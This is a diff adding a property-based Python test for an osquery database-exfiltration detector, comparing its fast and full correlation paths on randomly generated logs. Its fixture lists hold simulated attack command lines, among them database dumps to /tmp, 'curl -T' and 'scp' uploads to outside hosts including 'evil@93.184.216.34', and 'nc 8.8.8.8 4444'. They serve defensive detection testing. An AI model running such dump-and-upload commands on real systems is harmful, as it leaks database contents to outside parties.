@@ -1,0 +1,260 @@
+"""The correlator's fast path (correlate/fastpath.py) against the full path.
+
+The full path (rows.parse_line, then Engine.step) is the definition. On random
+logs mixing the common shapes with odd ones (numbers where text belongs,
+missing columns, garbage times, other queries, resends, admins, service
+accounts, allow rules, web-server parents, chains of every kind), feeding the
+lines through FastPath.line (falling back to the full path where it declines)
+must give exactly the same findings and the same host states.
+"""
+
+from __future__ import annotations
+
+import json
+import random
+from typing import Any
+
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from osq_dbwatch import policy
+from osq_dbwatch.config import parse_config
+from osq_dbwatch.correlate.engine import Engine, HostState
+from osq_dbwatch.correlate.fastpath import FastPath
+from osq_dbwatch.correlate.findings import to_ocsf
+from osq_dbwatch.correlate.rows import BadLine, parse_line, parse_obj
+
+CONFIG = """
+admins:
+  users: [alice]
+  groups: [dba]
+service_accounts: [backup, nagios]
+automation_windows:
+  - days: [mon, tue, wed, thu, fri]
+    start: "01:00"
+    end: "03:30"
+    tz: UTC
+    users: [backup]
+  - days: [sat, sun]
+    start: "00:00"
+    end: "23:59"
+    tz: Europe/Berlin
+    users: [nagios]
+    hosts: ["db-1*"]
+allow:
+  - user: etl
+    tool: psql
+    parent: "/opt/etl/bin/nightly-export"
+  - user: bob
+    tool: mysql
+    host: "app-2"
+internal_networks: [10.0.0.0/8, 192.168.0.0/16]
+correlator:
+  max_pending_per_host: 3
+  baseline_min_observations: 2
+  baseline_novel_after: 1h
+"""
+
+T0 = 1793577600  # Monday 2026-11-02 00:00 UTC
+HOSTS = ["db-10", "db-2", "app-2", "web-1"]
+USERS = ["alice", "bob", "mallory", "backup", "nagios", "etl", "grace", "www-data", ""]
+DB_COMMANDS = [
+    ("/usr/bin/psql", "psql -h 127.0.0.1 -U app -d customers"),
+    ("/usr/bin/psql", "psql -c \\copy users to /tmp/u.csv csv"),
+    ("/usr/bin/pg_dump", "pg_dump -Fc -f /tmp/db.dump customers"),
+    ("/usr/bin/mysql", "mysql -u root -pS3cret shop -e SELECT 1"),
+    ("/usr/bin/mysqldump", "mysqldump --all-databases"),
+    ("/usr/bin/mariadb", "mysql --defaults-file=/etc/nagios/my.cnf -e SHOW GLOBAL STATUS"),
+    ("/usr/bin/redis-cli", "redis-cli -h 10.0.0.5 --rdb /tmp/dump.rdb"),
+    ("/usr/bin/ls", "ls -la"),
+    ("", "psql"),
+]
+PARENTS = [
+    ("/usr/bin/bash", "-bash"),
+    ("/usr/bin/dash", "/bin/sh -c pg_dump -f /tmp/db.dump x > /tmp/out.sql"),
+    ("/usr/sbin/nginx", "nginx: worker process"),
+    ("/usr/sbin/cron", "/usr/sbin/CRON -f"),
+    ("/opt/etl/bin/nightly-export", "/opt/etl/bin/nightly-export"),
+    ("/tmp/.x/run", "/tmp/.x/run"),
+    ("", ""),
+]
+TRANSFERS = [
+    ("/usr/bin/curl", "curl -T /tmp/u.csv https://files.example.net/u"),
+    ("/usr/bin/curl", "curl -s http://10.1.2.3:8080/health"),
+    ("/usr/bin/scp", "scp /tmp/db.dump evil@93.184.216.34:/x"),
+    ("/usr/bin/gzip", "gzip -9 /tmp/db.dump"),
+    ("/usr/bin/tar", "tar czf /tmp/out.tgz /tmp/u.csv"),
+    ("/usr/bin/base64", "base64 -d"),
+    ("/usr/bin/nc", "nc 8.8.8.8 4444"),
+]
+FILES = ["/tmp/u.csv", "/tmp/db.dump", "/tmp/db.dump.gz", "/var/www/html/x.sql", "/home/bob/.cache/x.json",
+         "/tmp/out.sql", "/tmp/dump.rdb"]
+ADDRESSES = ["93.184.216.34", "10.0.0.5", "8.8.8.8", "192.168.1.9", "127.0.0.1", "1.1.1.1", "::1",
+             "2001:db8::1", "[8.8.4.4]", "010.1.1.1", " 8.8.8.8"]
+ODD_VALUES: list[Any] = [None, True, 1.5, 7, [], {}, "", "x", "12", "012", "-3", "1e3", "٣"]
+
+
+def _num(rng: random.Random, value: int, numerics: bool) -> Any:
+    return value if numerics else str(value)
+
+
+def _maybe_odd(rng: random.Random, columns: dict[str, Any], odd: float) -> None:
+    if rng.random() < odd:
+        key = rng.choice(sorted(columns))
+        if rng.random() < 0.2:
+            del columns[key]
+        else:
+            columns[key] = rng.choice(ODD_VALUES)
+
+
+def random_log(seed: int, n: int, odd: float = 0.05) -> list[bytes]:
+    rng = random.Random(seed)
+    lines: list[bytes] = []
+    t = T0 + rng.randrange(0, 7 * 86400)
+    recent_pids: list[int] = [100]
+    for _ in range(n):
+        t += rng.choice([0, 1, 5, 30, 120, 600, 3600, 5 * 3600])
+        host = rng.choice(HOSTS)
+        numerics = rng.random() < 0.2
+        user = rng.choice(USERS)
+        uid = 1000 + USERS.index(user)
+        session = rng.random() < 0.6
+        pid = rng.choice(recent_pids) if rng.random() < 0.2 else rng.randrange(1, 99999)
+        recent_pids = (recent_pids + [pid])[-8:]
+        kind = rng.choices(["exec", "transfer", "file", "egress", "admin", "other"], [8, 3, 3, 3, 1, 1])[0]
+        row_t = t - rng.randrange(0, 20)
+        name = rng.choice(["pack_dbwatch_", "pack/Global/dbwatch_", ""])
+        obj: dict[str, Any] = {"hostIdentifier": host, "unixTime": t if numerics else rng.choice([t, str(t)]),
+                               "counter": 1, "numerics": numerics, "action": "added"}
+        if kind in ("exec", "transfer"):
+            path, cmdline = rng.choice(DB_COMMANDS if kind == "exec" else TRANSFERS)
+            ppath, pcmd = rng.choice(PARENTS)
+            columns: dict[str, Any] = {
+                "auid": _num(rng, uid, numerics) if session else "4294967295", "cmdline": cmdline,
+                "cwd": rng.choice(["/", "/tmp", "/home/bob"]), "euid": _num(rng, uid, numerics),
+                "login_user": user if session else "", "parent": _num(rng, pid + 1, numerics),
+                "parent_cmdline": pcmd, "parent_path": ppath, "path": path, "pid": _num(rng, pid, numerics),
+                "time": _num(rng, row_t, numerics), "uid": _num(rng, uid, numerics), "username": user or "root",
+            }
+            name += "db_cli_exec" if kind == "exec" else "transfer_exec"
+        elif kind == "file":
+            columns = {"action": rng.choice(["CREATED", "UPDATED", "DELETED", "MOVED_TO"]),
+                       "inode": _num(rng, rng.randrange(1, 50), numerics), "owner": rng.choice(USERS + ["mysql"]),
+                       "sha256": rng.choice(["", "ab" * 32]), "size": _num(rng, rng.randrange(0, 10**7), numerics),
+                       "target_path": rng.choice(FILES), "time": _num(rng, row_t, numerics),
+                       "uid": _num(rng, uid, numerics)}
+            if rng.random() < 0.3:
+                columns["writer_pid"] = _num(rng, rng.choice(recent_pids), numerics)
+            name += "dump_file_events"
+        elif kind == "egress":
+            columns = {"auid": _num(rng, uid, numerics) if session else "4294967295", "family": "2",
+                       "login_user": user if session else "", "path": rng.choice([p for p, _ in TRANSFERS]),
+                       "pid": _num(rng, rng.choice(recent_pids), numerics), "remote_address": rng.choice(ADDRESSES),
+                       "remote_port": _num(rng, rng.choice([443, 80, 22, 5432]), numerics),
+                       "success": rng.choice(["1", "0", 1, "", "-1"]), "time": _num(rng, row_t, numerics)}
+            name += "db_egress"
+        elif kind == "admin":
+            obj["action"] = "snapshot"
+            obj["snapshot"] = [{"groupname": rng.choice(["dba", "root", "wheel"]), "username": u}
+                               for u in rng.sample(USERS[:-1], 2)]
+            name += "admin_accounts"
+            columns = {}
+        else:
+            columns = {"a": "1"}
+            name += rng.choice(["osquery_info", "db_cli_sessions"])
+        if kind != "admin":
+            obj["columns"] = columns
+            _maybe_odd(rng, columns, odd)
+            if rng.random() < odd:
+                obj[rng.choice(["action", "hostIdentifier", "unixTime", "columns", "name"])] = rng.choice(ODD_VALUES)
+        obj["name"] = name
+        lines.append(json.dumps(obj).encode())
+        if rng.random() < 0.05:
+            lines.append(lines[-1])  # osquery resends
+    return lines
+
+
+def _feed(engine: Engine, path: FastPath, states: dict[str, HostState], data: bytes, fast: bool) -> None:
+    try:
+        obj = json.loads(data)
+    except ValueError:
+        obj = None
+    if fast and obj is not None and path.line(obj):
+        return
+    try:
+        parsed = parse_line(data) if obj is None else parse_obj(obj)
+    except BadLine:
+        return
+    if parsed.rows:
+        host = parsed.rows[0].host
+        engine.step(states.get(host) or path.open_host(host), parsed.rows)
+
+
+def _run(lines: list[bytes], fast: bool) -> tuple[list[dict[str, Any]], dict[str, Any]]:
+    engine = Engine(parse_config(CONFIG))
+    states: dict[str, HostState] = {}
+    path = FastPath(engine)
+    path.dirty = states
+    path.open_host = lambda host: states.setdefault(host, HostState(host))
+    findings: list[dict[str, Any]] = []
+    for i, data in enumerate(lines):
+        _feed(engine, path, states, data, fast)
+        if i % 50 == 49:  # flush now and then, as batches do
+            for state in states.values():
+                findings.extend(to_ocsf(f) for f in engine.flush(state))
+    for state in states.values():
+        findings.extend(to_ocsf(f) for f in engine.flush(state))
+    return findings, {host: state.to_json() for host, state in sorted(states.items())}
+
+
+def _same(lines: list[bytes]) -> None:
+    full = _run(lines, fast=False)
+    fast = _run(lines, fast=True)
+    assert fast[0] == full[0]
+    assert fast[1] == full[1]
+
+
+def test_random_logs_give_identical_findings_and_state() -> None:
+    for seed in range(12):
+        lines = random_log(seed, 600)
+        findings, _ = _run(lines, fast=False)
+        _same(lines)
+    assert findings  # the generator does produce chains
+
+
+def test_clean_logs_give_identical_findings_and_state() -> None:
+    for seed in range(100, 106):
+        _same(random_log(seed, 800, odd=0.0))
+
+
+@settings(max_examples=40, deadline=None)
+@given(st.integers(min_value=0, max_value=2**32), st.floats(min_value=0.0, max_value=0.5))
+def test_any_seed_and_oddness(seed: int, odd: float) -> None:
+    _same(random_log(seed, 150, odd))
+
+
+def test_fast_path_takes_the_common_lines_and_declines_odd_ones() -> None:
+    engine = Engine(parse_config(CONFIG))
+    path = FastPath(engine)
+    states: dict[str, HostState] = {}
+    path.dirty = states
+    path.open_host = lambda host: states.setdefault(host, HostState(host))
+    clean = [json.loads(line) for line in random_log(7, 300, odd=0.0)]
+    taken = sum(path.line(obj) for obj in clean if obj["name"].endswith(("exec", "events", "egress")))
+    assert taken == sum(1 for obj in clean if obj["name"].endswith(("exec", "events", "egress"))) > 0
+    before = {host: state.to_json() for host, state in states.items()}
+    row = {"name": "pack_dbwatch_db_cli_exec", "hostIdentifier": "db-2", "unixTime": T0, "action": "added",
+           "columns": {"auid": "1001", "cmdline": 5, "cwd": "/", "login_user": "bob", "parent_cmdline": "",
+                       "parent_path": "", "path": "/usr/bin/psql", "pid": "1", "time": str(T0), "uid": "1",
+                       "username": "bob"}}
+    for odd in (row, dict(row, action="removed"), dict(row, columns=None), [row], dict(row, hostIdentifier="")):
+        assert path.line(odd) is False
+    assert {host: state.to_json() for host, state in states.items()} == before  # declined lines touch nothing
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.tuples(*[st.integers(min_value=0, max_value=255)] * 4), st.sampled_from(["", " ", "0", ":80", "\n"]))
+def test_ipv4_fast_check_agrees_with_policy(octets: tuple[int, int, int, int], extra: str) -> None:
+    engine = Engine(parse_config(CONFIG))
+    for address in (".".join(map(str, octets)) + extra, extra + ".".join(map(str, octets))):
+        assert engine._external(address) == policy.is_external_address(engine.config, address)
